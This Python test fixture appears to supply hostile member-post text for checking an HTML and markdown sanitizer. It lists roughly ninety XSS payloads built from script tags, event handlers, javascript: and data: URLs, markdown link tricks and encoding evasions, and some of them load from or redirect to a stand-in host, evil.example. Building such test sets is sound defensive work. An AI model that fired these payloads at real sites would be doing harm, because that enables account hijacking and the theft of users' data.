"""Hostile member text: script, event handlers, dangerous URLs and markup
smuggling, in the shapes attackers actually use. Each sets window.__xss or
opens a dialog if it ever runs."""

RUN = "window.__xss=1;alert(1)"

CLASSIC = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<script type=module>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<style><img src="</style><img src=x onerror={RUN}//">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>XSS</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f'<button formaction="javascript:{RUN}">go</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/track)}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="JaVaScRiPt:{RUN}">click</a>',
    f'<a href="jav&#x09;ascript:{RUN}">click</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:{RUN}">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    f'<a href="vbscript:{RUN}">x</a>',
    f"[click me](javascript:{RUN})",
    f"[click me](JAVASCRIPT:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"![x](javascript:{RUN})",
    f'![x](x" onerror="{RUN})',
    f'<https://x.example/" onmouseover="{RUN}>',
    f'[a](https://x.example/"onmouseover="{RUN}")',
    f"**<img src=x onerror={RUN}>**",
    f"*<svg onload={RUN}>*",
    f"- <img src=x onerror={RUN}>\n- item",
    f"1. <details open ontoggle={RUN}>",
    f"`<script>{RUN}</script>`",
    f"```\n<script>{RUN}</script>\n```",
    f"<div onclick={RUN}>click</div>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    "<img src=x:alert(1) onerror=eval(src)>",
    f"<img/src=x/onerror={RUN}>",
    f"<img\nsrc=x\nonerror={RUN}>",
    f'<img src=x onerror="{RUN}"/>',
    f"<img src=x onerror&#61;{RUN}>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "{{ 7|add:7 }} {% debug %} {% load static %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<?php echo 1; ?>",
    "\u202e<script>window.__xss=1</script>",
    "\x00<script>window.__xss=1</script>",
    "<template><script>window.__xss=1</script></template>",
    f'<table background="javascript:{RUN}"><tr><td>x</td></tr></table>',
    f'<div style="width:expression({RUN})">x</div>',
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>",
    f'<a id=x tabindex=1 onbeforeactivate="{RUN}"></a>',
    f"<h1 onmouseover={RUN}>heading</h1>",
    "<h2>Not a heading for members</h2>",
    f'<img src="https://evil.example/pixel.gif" onload="{RUN}">',
    f"<picture><source srcset=x onerror={RUN}></picture>",
    f'<object type=text/html data="data:text/html,<script>{RUN}</script>"></object>',
    f'<portal src="javascript:{RUN}"></portal>',
    f"<frameset onload={RUN}>",
    f"<animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN}>",
    '<a href="https://example.org" target=_blank>tabnabbing</a>',
]

# Every tag that browsers run handlers on, with the handlers they fire unasked.
TAGS = ["img", "svg", "body", "video", "audio", "iframe", "details", "div", "p", "a"]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover"]
GENERATED = [
    f'<{tag} src=x {event}="{RUN}" autofocus tabindex=1 open>text</{tag}>'
    for tag in TAGS
    for event in EVENTS
]

PAYLOADS = CLASSIC + GENERATED

# Each post also needs enough ordinary words to pass the length rule.
FILLER = " Words around it so that the post is long enough to be accepted."
